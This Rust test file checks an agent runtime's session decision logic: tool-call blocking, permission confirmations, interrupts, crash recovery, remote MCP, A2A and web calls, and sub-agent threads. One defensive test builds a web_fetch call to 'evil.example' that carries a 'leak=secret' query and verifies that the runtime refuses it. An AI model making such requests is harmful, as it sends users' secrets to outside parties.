//! `decide`'s cases: event lists in, decisions out.

use agentd_schema::{NewEvent, Permission, StoredEvent};
use serde_json::{Value, json};

use super::*;
use crate::event::{Event, events};
use crate::providers::{Block, Role};
use crate::threads::ThreadTool;

mod fold;

fn bodies(events: &[NewEvent]) -> Vec<Value> {
    events.iter().map(|e| e.body.clone()).collect()
}

/// The events of an idle decision, as bodies.
fn idle_bodies(decision: Decision) -> Vec<Value> {
    let Decision::Idle { events } = decision else { panic!("not an idle: {decision:?}") };
    bodies(&events)
}

fn idle(stop_reason: Value) -> Value {
    json!({ "type": "session.status_idle", "stop_reason": stop_reason, "stop_details": null })
}

fn builtin_tool_use(name: &str, input: Value, policy: &str) -> Value {
    NewEvent::tool_use("sesn_1", name, input, Permission::of_policy(policy)).body
}

fn mcp_tool_use(server: &str, name: &str, input: Value, policy: &str) -> Value {
    NewEvent::mcp_tool_use("sesn_1", server, name, input, Permission::of_policy(policy)).body
}

fn history(events: &[Value]) -> Vec<StoredEvent> {
    events
        .iter()
        .enumerate()
        .map(|(i, body)| StoredEvent {
            session_id: "sesn_1".into(),
            seq: i as i64 + 1,
            event_id: body["id"].as_str().map_or_else(|| format!("sevt_{i}"), str::to_owned),
            thread_id: "sesn_1".into(),
            kind: body["type"].as_str().unwrap_or_default().to_owned(),
            body: body.clone(),
            processed_at_ms: 0,
        })
        .collect()
}

/// `decide` on the history as a worker first holds it (parsed) and as the history cache
/// keeps it (packed): the two decide alike.
fn decide(agent: &Value, history: &[StoredEvent]) -> Decision {
    let parsed = events(history.to_vec());
    let mut packed = parsed.clone();
    packed.iter_mut().for_each(Event::pack);
    let decision = super::decide(agent, &parsed);
    assert_eq!(fold::shape(super::decide(agent, &packed)), fold::shape(decision.clone()), "packed and parsed");
    decision
}

fn agent() -> Value {
    json!({
        "model": { "id": "claude-sonnet-4-5" },
        "system": "be brief",
        "tools": [
            { "type": "custom", "name": "lookup", "description": "d", "input_schema": { "type": "object" } },
            { "type": "agent_toolset_20260401", "default_config": { "enabled": true, "permission_policy": { "type": "always_ask" } },
              "configs": [{ "name": "read", "enabled": true, "permission_policy": { "type": "always_allow" } }] }
        ]
    })
}

fn user(text: &str) -> Value {
    json!({ "type": "user.message", "content": [{ "type": "text", "text": text }] })
}

#[test]
fn new_input_calls_the_model_after_marking_the_session_running() {
    let decision = decide(&agent(), &history(&[user("hi")]));
    let Decision::CallModel { before, request } = decision else { panic!("{decision:?}") };
    assert_eq!(bodies(&before), vec![json!({ "type": "session.status_running" })]);
    assert_eq!(request.system.as_deref(), Some("be brief"));
    assert_eq!(request.messages.len(), 1);
    let names: Vec<&str> = request.tools.iter().map(|t| t.name.as_str()).collect();
    assert!(names.contains(&"lookup") && names.contains(&"bash") && names.contains(&"read"), "{names:?}");
}

#[test]
fn a_finished_model_turn_idles_with_end_turn_once() {
    let turn = [
        user("hi"),
        json!({"type":"session.status_running"}),
        json!({"type":"span.model_request_start"}),
        json!({"type":"agent.message","content":[{"type":"text","text":"hello"}]}),
        json!({"type":"span.model_request_end"}),
    ];
    let decision = decide(&agent(), &history(&turn));
    assert_eq!(idle_bodies(decision), vec![idle(json!({ "type": "end_turn" }))]);
    let mut done = turn.to_vec();
    done.push(idle(json!({ "type": "end_turn" })));
    assert_eq!(decide(&agent(), &history(&done)), Decision::Park);
}

#[test]
fn custom_tools_block_until_every_call_is_answered() {
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        json!({"type":"agent.custom_tool_use","id":"t1","name":"lookup","input":{}}),
        json!({"type":"agent.custom_tool_use","id":"t2","name":"lookup","input":{}}),
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::Idle { events: idle_events } = decide(&agent(), &history(&events)) else { panic!() };
    assert_eq!(idle_events[0].body["stop_reason"], json!({ "type": "requires_action", "event_ids": ["t1", "t2"] }));
    events.extend(bodies(&idle_events));
    events.push(json!({"type":"user.custom_tool_result","custom_tool_use_id":"t1","content":[]}));
    let Decision::Idle { events: again } = decide(&agent(), &history(&events)) else { panic!() };
    assert_eq!(again[0].body["stop_reason"]["event_ids"], json!(["t2"]), "fewer answers re-idle with the remainder");
    events.extend(bodies(&again));
    events.push(json!({"type":"user.custom_tool_result","custom_tool_use_id":"t2","content":[]}));
    let decision = decide(&agent(), &history(&events));
    let Decision::CallModel { before, request } = decision else { panic!("{decision:?}") };
    assert_eq!(bodies(&before), vec![json!({ "type": "session.status_running" })]);
    assert!(matches!(request.messages.last().unwrap().content[0], Block::ToolResult { .. }));
}

#[test]
fn a_denied_confirmation_appends_a_synthetic_error_result_and_continues() {
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        builtin_tool_use("bash", json!({"command":"ls"}), "always_ask")
            .as_object()
            .map(|m| {
                let mut m = m.clone();
                m.insert("id".into(), json!("t1"));
                Value::Object(m)
            })
            .unwrap(),
        json!({"type":"span.model_request_end"}),
        idle(json!({"type":"requires_action","event_ids":["t1"]})),
        json!({"type":"user.tool_confirmation","tool_use_id":"t1","result":"deny","deny_message":"no"}),
    ];
    let Decision::CallModel { before, .. } = decide(&agent(), &history(&events)) else { panic!() };
    assert_eq!(before[0].body["type"], "session.status_running");
    assert_eq!(before[1].body["type"], "agent.tool_result");
    assert_eq!(before[1].body["is_error"], true);
    assert_eq!(before[1].body["content"][0]["text"], "no");
}

fn allowed_read(id: &str) -> Value {
    let mut call = builtin_tool_use("read", json!({"file_path":"a"}), "always_allow");
    call["id"] = json!(id);
    call
}

#[test]
fn allowed_builtin_calls_wait_for_hands_without_idling() {
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        allowed_read("t1"),
        json!({"type":"span.model_request_end"}),
    ];
    assert_eq!(decide(&agent(), &history(&events)), Decision::AwaitHands { events: vec![] });
    // The hands answer: the model is asked again with the result.
    let mut answered = events.clone();
    answered.push(json!({"type":"agent.tool_result","tool_use_id":"t1","content":[{"type":"text","text":"x"}]}));
    assert!(matches!(decide(&agent(), &history(&answered)), Decision::CallModel { .. }));
}

#[test]
fn hands_that_gave_up_end_the_turn_once() {
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        allowed_read("t1"),
        json!({"type":"span.model_request_end"}),
        json!({"type":"agent.tool_result","tool_use_id":"t1","is_error":true,"content":[]}),
        json!({"type":"session.error","error":{"type":"unknown_error","message":"lost","retry_status":{"type":"exhausted"}}}),
    ];
    let Decision::Idle { events: idle_events } = decide(&agent(), &history(&events)) else { panic!() };
    assert_eq!(bodies(&idle_events), vec![idle(json!({"type":"retries_exhausted"}))]);
    events.extend(bodies(&idle_events));
    assert_eq!(decide(&agent(), &history(&events)), Decision::Park, "ended once");
    events.push(user("again"));
    assert!(matches!(decide(&agent(), &history(&events)), Decision::CallModel { .. }), "new input runs again");
}

#[test]
fn input_that_arrived_during_a_request_is_consumed_by_the_next_one() {
    let events = vec![
        user("one"),
        json!({"type":"session.status_running"}),
        json!({"type":"span.model_request_start"}),
        user("two"),
        json!({"type":"agent.message","content":[{"type":"text","text":"re: one"}]}),
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::CallModel { before, request } = decide(&agent(), &history(&events)) else { panic!() };
    assert!(before.is_empty(), "already running");
    let roles: Vec<Role> = request.messages.iter().map(|m| m.role).collect();
    assert_eq!(roles, [Role::User, Role::Assistant, Role::User], "user two follows the reply it missed");
    assert_eq!(request.messages[2].content, vec![Block::Text("two".into())]);
}

#[test]
fn a_request_cut_off_by_a_crash_is_made_again() {
    let events = vec![user("go"), json!({"type":"session.status_running"}), json!({"type":"span.model_request_start"})];
    let Decision::CallModel { before, request } = decide(&agent(), &history(&events)) else { panic!() };
    assert_eq!(before.len(), 1, "the orphaned span is closed: {before:?}");
    assert_eq!(before[0].body["type"], "span.model_request_end");
    assert_eq!(before[0].body["model_request_start_id"], "sevt_2");
    assert_eq!(before[0].body["is_error"], true);
    assert_eq!(request.messages.len(), 1);
}

#[test]
fn input_survives_two_requests_cut_off_by_crashes_in_a_row() {
    // The first cut-off request was closed (is_error) by the recovery; the second was
    // cut off too. The user's message is still unanswered: ask the model again.
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        json!({"type":"span.model_request_start"}),
        json!({"type":"span.model_request_end","model_request_start_id":"sevt_2","is_error":true}),
        json!({"type":"span.model_request_start"}),
    ];
    let Decision::CallModel { before, request } = decide(&agent(), &history(&events)) else {
        panic!("the input was taken as answered")
    };
    assert_eq!(before[0].body["model_request_start_id"], "sevt_4", "the second cut-off request is closed");
    assert_eq!(request.messages.len(), 1);
}

#[test]
fn an_interrupt_after_the_last_input_idles_instead_of_calling_the_model() {
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        json!({"type":"span.model_request_start"}),
        json!({"type":"user.interrupt"}),
        json!({"type":"span.model_request_end"}),
    ];
    assert_eq!(idle_bodies(decide(&agent(), &history(&events))), vec![idle(json!({"type":"end_turn"}))]);
    let mut events = events;
    events.push(idle(json!({"type":"end_turn"})));
    assert_eq!(decide(&agent(), &history(&events)), Decision::Park);
    events.push(user("again"));
    assert!(matches!(decide(&agent(), &history(&events)), Decision::CallModel { .. }));
}

fn remote_agent() -> Value {
    json!({
        "model": { "id": "claude-sonnet-4-5" },
        "mcp_servers": [{ "type": "url", "name": "calc", "url": "http://127.0.0.1:1/mcp" }],
        "tools": [
            { "type": "mcp_toolset", "mcp_server_name": "calc", "default_config": { "enabled": true, "permission_policy": { "type": "always_ask" } }, "configs": [] },
            { "type": "a2a_agent", "name": "helper", "url": "http://127.0.0.1:2", "permission_policy": { "type": "always_allow" } }
        ]
    })
}

#[test]
fn allowed_mcp_and_a2a_calls_are_made_by_the_worker_not_the_hands() {
    let mut a2a = builtin_tool_use("helper", json!({"message":"hi"}), "always_allow");
    a2a["id"] = json!("t2");
    let mut mcp = mcp_tool_use("calc", "add", json!({"a":1}), "always_allow");
    mcp["id"] = json!("t1");
    let events =
        vec![user("go"), json!({"type":"session.status_running"}), mcp, a2a, json!({"type":"span.model_request_end"})];
    let decision = decide(&remote_agent(), &history(&events));
    let Decision::CallRemote { before, calls } = decision else { panic!("{decision:?}") };
    assert!(before.is_empty(), "already running");
    assert_eq!(calls.len(), 2);
    assert_eq!(calls[0].target, RemoteTarget::Mcp { server: "calc".into(), tool: "add".into() });
    assert_eq!(calls[1].target, RemoteTarget::A2a { tool: "helper".into() });
    assert!(calls.iter().all(|c| !c.released_now), "released by the request that committed them, not here");
    let names: Vec<String> = tool_specs(&remote_agent()).into_iter().map(|t| t.name).collect();
    assert_eq!(names, ["helper"], "MCP tools come from their server, the A2A tool from the config");
}

#[test]
fn mcp_confirmations_release_or_deny_the_call() {
    let mut ask = mcp_tool_use("calc", "bump", json!({}), "always_ask");
    ask["id"] = json!("t1");
    let mut events =
        vec![user("go"), json!({"type":"session.status_running"}), ask, json!({"type":"span.model_request_end"})];
    let Decision::Idle { events: idle_events } = decide(&remote_agent(), &history(&events)) else { panic!() };
    assert_eq!(idle_events[0].body["stop_reason"], json!({ "type": "requires_action", "event_ids": ["t1"] }));
    events.extend(bodies(&idle_events));

    let mut allowed = events.clone();
    allowed.push(json!({"type":"user.tool_confirmation","tool_use_id":"t1","result":"allow"}));
    let Decision::CallRemote { before, calls } = decide(&remote_agent(), &history(&allowed)) else { panic!() };
    assert_eq!(bodies(&before), vec![json!({ "type": "session.status_running" })]);
    assert!(calls[0].released_now, "the commit of status_running marks the call as started here");
    // After that commit, a new attempt sees a call someone may have started.
    allowed.push(json!({"type":"session.status_running"}));
    let Decision::CallRemote { calls, .. } = decide(&remote_agent(), &history(&allowed)) else { panic!() };
    assert!(!calls[0].released_now);

    let mut denied = events;
    denied.push(json!({"type":"user.tool_confirmation","tool_use_id":"t1","result":"deny","deny_message":"no"}));
    let Decision::CallModel { before, request } = decide(&remote_agent(), &history(&denied)) else { panic!() };
    assert_eq!(before[1].body["type"], "agent.mcp_tool_result");
    assert_eq!(before[1].body["mcp_tool_use_id"], "t1");
    assert_eq!(before[1].body["is_error"], true);
    assert!(matches!(request.messages.last().unwrap().content[0], Block::ToolResult { .. }));
}

#[test]
fn an_interrupt_before_a_remote_call_is_made_means_it_is_not_made() {
    let mut mcp = mcp_tool_use("calc", "add", json!({"a":1}), "always_allow");
    mcp["id"] = json!("t1");
    let mut a2a = builtin_tool_use("helper", json!({"message":"hi"}), "always_allow");
    a2a["id"] = json!("t2");
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        mcp,
        a2a,
        json!({"type":"span.model_request_end"}),
        json!({"type":"user.interrupt"}),
    ];
    let decision = decide(&remote_agent(), &history(&events));
    let Decision::Idle { events: end } = decision else { panic!("{decision:?}") };
    assert_eq!(end[0].body["type"], "agent.mcp_tool_result");
    assert_eq!((end[0].body["mcp_tool_use_id"].as_str(), end[0].body["is_error"].as_bool()), (Some("t1"), Some(true)));
    assert_eq!(end[0].body["content"][0]["text"], INTERRUPTED_UNANSWERED);
    assert_eq!(end[1].body["type"], "agent.tool_result");
    assert_eq!((end[1].body["tool_use_id"].as_str(), end[1].body["is_error"].as_bool()), (Some("t2"), Some(true)));
    assert_eq!(end.last().unwrap().body["stop_reason"]["type"], "end_turn", "the interrupted turn ends");
    events.extend(bodies(&end));
    assert!(matches!(decide(&remote_agent(), &history(&events)), Decision::Park), "and stays ended");

    // An interrupt after the call's use but before the confirmation that allows it:
    // the confirmation releases it later, so the call is made.
    let mut ask = mcp_tool_use("calc", "bump", json!({}), "always_ask");
    ask["id"] = json!("t3");
    let mut asked = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        ask,
        json!({"type":"span.model_request_end"}),
        json!({"type":"session.status_idle","stop_reason":{"type":"requires_action","event_ids":["t3"]}}),
        json!({"type":"user.interrupt"}),
        json!({"type":"user.tool_confirmation","tool_use_id":"t3","result":"allow"}),
    ];
    let decision = decide(&remote_agent(), &history(&asked));
    assert!(matches!(decision, Decision::CallRemote { .. }), "{decision:?}");
    // An interrupt after the allowing confirmation: not made.
    asked.push(json!({"type":"session.status_running"}));
    asked.push(json!({"type":"user.interrupt"}));
    let decision = decide(&remote_agent(), &history(&asked));
    let Decision::Idle { events: end } = decision else { panic!("{decision:?}") };
    assert_eq!(end[0].body["mcp_tool_use_id"], "t3");
    assert_eq!(end[0].body["content"][0]["text"], INTERRUPTED_UNANSWERED);
}

#[test]
fn a_failed_remote_server_ends_the_turn_once() {
    let mut mcp = mcp_tool_use("calc", "add", json!({}), "always_allow");
    mcp["id"] = json!("t1");
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        mcp,
        json!({"type":"span.model_request_end"}),
        json!({"type":"agent.mcp_tool_result","mcp_tool_use_id":"t1","is_error":true,"content":[]}),
        json!({"type":"session.error","error":{"type":"mcp_connection_failed_error","mcp_server_name":"calc","message":"down","retry_status":{"type":"exhausted"}}}),
    ];
    let Decision::Idle { events: end } = decide(&remote_agent(), &history(&events)) else { panic!() };
    assert_eq!(bodies(&end), vec![idle(json!({"type":"retries_exhausted"}))]);
    events.extend(bodies(&end));
    assert_eq!(decide(&remote_agent(), &history(&events)), Decision::Park);
}

#[test]
fn a_dream_sessions_memory_tool_is_run_by_the_worker_and_only_there() {
    let custom_memory = json!({
        "model": { "id": "claude-sonnet-4-5" },
        "tools": [{ "type": "custom", "name": "memory", "input_schema": { "type": "object" } }],
    });
    let mut call = builtin_tool_use("memory", json!({"command":"view"}), "always_allow");
    call["id"] = json!("t1");
    let events =
        vec![user("go"), json!({"type":"session.status_running"}), call, json!({"type":"span.model_request_end"})];
    // In a dream's session the worker arms the tool and makes the call itself.
    let dream = |marked: bool| {
        let body = if marked { json!({ "_dream": { "dream_id": "drm_x" } }) } else { json!({}) };
        let session = agentd_schema::Session {
            id: "sesn_x".into(),
            workspace_id: "ws".into(),
            status: "running".into(),
            body,
            agent_id: None,
            agent_version: None,
            usage: json!({}),
            next_seq: 1,
            created_at_ms: 0,
            updated_at_ms: 0,
            archived_at_ms: None,
            active_ms: 0,
            running_since_ms: None,
            inbox_version: 0,
            resources_revision: 1,
            agent_snapshot_id: None,
            child_threads: 0,
        };
        let mut agent = custom_memory.clone();
        crate::dream_memory::arm(&session, &mut agent);
        agent
    };
    let armed = dream(true);
    assert_eq!(classify(&armed, "memory"), ToolClass::Memory);
    let Decision::CallRemote { calls, .. } = decide(&armed, &history(&events)) else { panic!("a remote call") };
    assert_eq!(calls[0].target, RemoteTarget::Memory);
    let names: Vec<String> = tool_specs(&armed).into_iter().map(|t| t.name).collect();
    assert_eq!(names, ["memory"]);
    // Any other session's `memory` custom tool stays the client's to answer.
    assert_eq!(classify(&dream(false), "memory"), ToolClass::Custom);
}

fn web_agent() -> Value {
    json!({
        "model": { "id": "claude-sonnet-4-5" },
        "tools": [{ "type": "agent_toolset_20260401",
                    "default_config": { "enabled": false, "permission_policy": { "type": "always_allow" } },
                    "configs": [
                        { "name": "web_fetch", "enabled": true, "permission_policy": { "type": "always_allow" } },
                        { "name": "web_search", "enabled": true, "permission_policy": { "type": "always_ask" } }
                    ] }]
    })
}

#[test]
fn web_tools_are_offered_and_run_by_the_worker_not_the_hands() {
    let agent = web_agent();
    let names: Vec<String> = tool_specs(&agent).into_iter().map(|t| t.name).collect();
    assert_eq!(names, ["web_fetch", "web_search"], "the disabled sandbox tools are not offered");
    assert_eq!(classify(&agent, "web_search"), ToolClass::Web { tool: WebTool::Search, policy: "always_ask".into() });
    let mut fetch = builtin_tool_use("web_fetch", json!({ "url": "https://example.com/a" }), "always_allow");
    fetch["id"] = json!("t1");
    let events = vec![
        user("summarize https://example.com/a please"),
        json!({"type":"session.status_running"}),
        fetch,
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::CallRemote { calls, .. } = decide(&agent, &history(&events)) else { panic!() };
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].target, RemoteTarget::Web(WebTool::Fetch));
    assert_eq!(calls[0].kind(), EventType::AgentToolUse);
}

#[test]
fn a_url_the_conversation_never_showed_is_refused_before_anything_goes_out() {
    let mut fetch =
        builtin_tool_use("web_fetch", json!({ "url": "https://evil.example/?leak=secret" }), "always_allow");
    fetch["id"] = json!("t1");
    let events = vec![
        user("summarize https://example.com/a please"),
        json!({"type":"session.status_running"}),
        fetch,
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::CallModel { before, .. } = decide(&web_agent(), &history(&events)) else { panic!() };
    let result = &before[0].body;
    assert_eq!((result["type"].as_str(), result["tool_use_id"].as_str()), (Some("agent.tool_result"), Some("t1")));
    assert_eq!(result["is_error"], true);
    let text = result["content"][0]["text"].as_str().unwrap();
    assert!(text.contains("has not appeared in this conversation") && !text.contains("secret"), "{text}");
}

#[test]
fn a_web_search_that_asks_waits_for_the_confirmation_then_runs() {
    let mut search = builtin_tool_use("web_search", json!({ "query": "rust" }), "always_ask");
    search["id"] = json!("t1");
    let mut events = vec![
        user("search"),
        json!({"type":"session.status_running"}),
        search,
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::Idle { events: idle_events } = decide(&web_agent(), &history(&events)) else { panic!() };
    assert_eq!(idle_events[0].body["stop_reason"], json!({ "type": "requires_action", "event_ids": ["t1"] }));
    events.extend(bodies(&idle_events));
    events.push(json!({"type":"user.tool_confirmation","tool_use_id":"t1","result":"allow"}));
    let Decision::CallRemote { calls, .. } = decide(&web_agent(), &history(&events)) else { panic!() };
    assert_eq!(calls[0].target, RemoteTarget::Web(WebTool::Search));
    assert!(calls[0].released_now);
}

/// A primary thread's agent armed with its thread tools (`threads::arm`).
fn lead() -> Value {
    json!({
        "model": { "id": "claude-sonnet-4-5" },
        "tools": [
            { "type": "custom", "name": "lookup", "description": "d", "input_schema": { "type": "object" } },
            { "type": crate::threads::TOOL_TYPE, "spawn": true, "names": ["researcher"],
              "agents": [{ "name": "researcher", "description": "digs", "self": false }],
              "inline_agents": false, "advisor": "claude-opus-4-1" }
        ]
    })
}

fn thread_tool_use(id: &str, name: &str, input: Value) -> Value {
    let mut call = builtin_tool_use(name, input, "always_allow");
    call["id"] = json!(id);
    call
}

/// The parent's `agent.thread_message_sent` that dispatched the call `call` to `to`.
fn dispatched(call: &str, to: &str) -> Value {
    json!({ "type": "agent.thread_message_sent", "to_session_thread_id": to, "to_agent_name": "researcher",
            "content": [{ "type": "text", "text": "find" }],
            "_thread_call": { "tool_use_id": call, "role": "request" } })
}

fn thread_result(call: &str) -> Value {
    json!({ "type": "agent.tool_result", "tool_use_id": call, "is_error": false,
            "content": [{ "type": "text", "text": "session_thread_id: sthr_1\n\nfound" }] })
}

#[test]
fn thread_tools_are_the_primarys_offered_always_allowed() {
    let armed = lead();
    assert_eq!(classify(&armed, "spawn_thread"), ToolClass::Thread(ThreadTool::Spawn));
    assert_eq!(classify(&armed, "message_thread"), ToolClass::Thread(ThreadTool::Message));
    assert_eq!(classify(&armed, "consult_advisor"), ToolClass::Advisor);
    let names: Vec<String> = tool_specs(&armed).into_iter().map(|t| t.name).collect();
    assert_eq!(names, ["lookup", "spawn_thread", "message_thread", "consult_advisor"]);
    // A child's agent has no thread tools: a call of one is refused, not dispatched.
    let child = agent();
    assert_eq!(classify(&child, "spawn_thread"), ToolClass::Unknown);
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        thread_tool_use("t1", "spawn_thread", json!({ "agent": "researcher", "message": "x" })),
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::CallModel { before, .. } = decide(&child, &history(&events)) else { panic!("refused") };
    assert_eq!(before[0].body["is_error"], true);
}

#[test]
fn thread_calls_dispatch_before_the_turn_waits_on_the_client_then_await_their_replies() {
    let spawn = thread_tool_use("t1", "spawn_thread", json!({ "agent": "researcher", "message": "find" }));
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        spawn,
        json!({"type":"agent.custom_tool_use","id":"t2","name":"lookup","input":{}}),
        json!({"type":"span.model_request_end"}),
    ];
    let decision = decide(&lead(), &history(&events));
    let Decision::CallThreads { before, calls } = decision else { panic!("{decision:?}") };
    assert!(before.is_empty(), "already running");
    assert_eq!(calls.len(), 1);
    assert_eq!((calls[0].id.as_str(), calls[0].tool), ("t1", ThreadTool::Spawn));
    assert_eq!(calls[0].input["message"], "find");

    // Dispatched: the custom tool blocks the turn as usual.
    events.push(dispatched("t1", "sthr_1"));
    let Decision::Idle { events: idle_events } = decide(&lead(), &history(&events)) else { panic!() };
    assert_eq!(idle_events[0].body["stop_reason"], json!({ "type": "requires_action", "event_ids": ["t2"] }));
    events.extend(bodies(&idle_events));

    // Answered: the reply is awaited, and the session runs again meanwhile.
    events.push(json!({"type":"user.custom_tool_result","custom_tool_use_id":"t2","content":[]}));
    let decision = decide(&lead(), &history(&events));
    let Decision::AwaitThreads { events: before, waiting } = decision else { panic!("{decision:?}") };
    assert_eq!(bodies(&before), vec![json!({ "type": "session.status_running" })]);
    assert_eq!(waiting, [Waiting { call_id: "t1".into(), thread_id: "sthr_1".into() }]);
    events.extend(bodies(&before));
    assert!(
        matches!(decide(&lead(), &history(&events)), Decision::AwaitThreads { ref events, .. } if events.is_empty())
    );

    // The reply's message is not input; the call's result is.
    events.push(json!({ "type": "agent.thread_message_received", "from_session_thread_id": "sthr_1",
                        "from_agent_name": "researcher", "content": [{ "type": "text", "text": "found" }],
                        "_thread_call": { "tool_use_id": "t1", "role": "reply" } }));
    assert!(matches!(decide(&lead(), &history(&events)), Decision::AwaitThreads { .. }));
    events.push(thread_result("t1"));
    let Decision::CallModel { before, request } = decide(&lead(), &history(&events)) else { panic!() };
    assert!(before.is_empty());
    assert!(matches!(request.messages.last().unwrap().content.last(), Some(Block::ToolResult { .. })));
    assert_eq!(awaiting(&crate::event::events(history(&events))), []);
}

#[test]
fn an_interrupted_parent_ends_its_turn_instead_of_waiting_or_dispatching() {
    let mut events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        thread_tool_use("t1", "spawn_thread", json!({ "agent": "researcher", "message": "a" })),
        thread_tool_use("t2", "spawn_thread", json!({ "agent": "researcher", "message": "b" })),
        json!({"type":"span.model_request_end"}),
        dispatched("t1", "sthr_1"),
        json!({"type":"user.interrupt"}),
    ];
    let decision = decide(&lead(), &history(&events));
    let Decision::Idle { events: end } = decision else { panic!("{decision:?}") };
    // The undispatched call is not made; the dispatched one is left to `run.rs`, which
    // closes the wait with the idle.
    assert_eq!(end.len(), 2);
    assert_eq!((end[0].body["tool_use_id"].as_str(), end[0].body["is_error"].as_bool()), (Some("t2"), Some(true)));
    assert_eq!(end[0].body["content"][0]["text"], NOT_MADE_INTERRUPTED);
    assert_eq!(end[1].body["stop_reason"]["type"], "end_turn");
    assert_eq!(
        awaiting(&crate::event::events(history(&events))),
        [Waiting { call_id: "t1".into(), thread_id: "sthr_1".into() }]
    );
    events.extend(bodies(&end));
    events.push(json!({"type":"agent.tool_result","tool_use_id":"t1","is_error":true,"content":[]}));
    assert_eq!(decide(&lead(), &history(&events)), Decision::Park, "closed, and stays ended");
}

#[test]
fn the_advisor_is_a_remote_call_of_the_worker() {
    let events = vec![
        user("go"),
        json!({"type":"session.status_running"}),
        thread_tool_use("t1", "consult_advisor", json!({ "question": "which?" })),
        json!({"type":"span.model_request_end"}),
    ];
    let Decision::CallRemote { calls, .. } = decide(&lead(), &history(&events)) else { panic!() };
    assert_eq!((calls[0].target.clone(), calls[0].kind()), (RemoteTarget::Advisor, EventType::AgentToolUse));
}

/// A child thread's history: on `sthr_1`, its statuses `session.thread_status_*`.
fn child_history(events: &[Value]) -> Vec<StoredEvent> {
    let mut stored = history(events);
    for event in &mut stored {
        event.thread_id = "sthr_1".into();
    }
    stored
}

#[test]
fn a_childs_request_is_its_input_and_its_thread_statuses_are_its_status() {
    let mut events = vec![
        json!({ "type": "session.thread_status_running", "session_thread_id": "sthr_1", "agent_name": "researcher" }),
        json!({ "type": "agent.thread_message_received", "from_session_thread_id": "sesn_1",
                "content": [{ "type": "text", "text": "find the paper" }],
                "_thread_call": { "tool_use_id": "t1", "role": "request" } }),
    ];
    let decision = decide(&agent(), &child_history(&events));
    let Decision::CallModel { before, request } = decision else { panic!("{decision:?}") };
    assert!(before.is_empty(), "running already: the dispatch said so");
    assert_eq!(request.messages.len(), 1);
    assert_eq!(request.messages[0].role, Role::User);
    assert_eq!(request.messages[0].content, vec![Block::Text("find the paper".into())]);

    events.push(json!({"type":"span.model_request_start"}));
    events.push(json!({"type":"agent.message","content":[{"type":"text","text":"found"}]}));
    events.push(json!({"type":"span.model_request_end"}));
    let Decision::Idle { events: end } = decide(&agent(), &child_history(&events)) else { panic!() };
    assert_eq!(end[0].body["stop_reason"]["type"], "end_turn");
    // Committed by a child, the idle is a thread status; folded, it ends the turn once.
    let idle = end[0].clone().for_thread("researcher");
    assert_eq!(idle.kind, "session.thread_status_idle");
    events.push(idle.body);
    assert_eq!(decide(&agent(), &child_history(&events)), Decision::Park);

    // The reply the child sent is not input to it.
    events.push(json!({ "type": "agent.thread_message_sent", "to_session_thread_id": "sesn_1",
                        "content": [{ "type": "text", "text": "found" }],
                        "_thread_call": { "tool_use_id": "t1", "role": "reply" } }));
    assert_eq!(decide(&agent(), &child_history(&events)), Decision::Park);
}
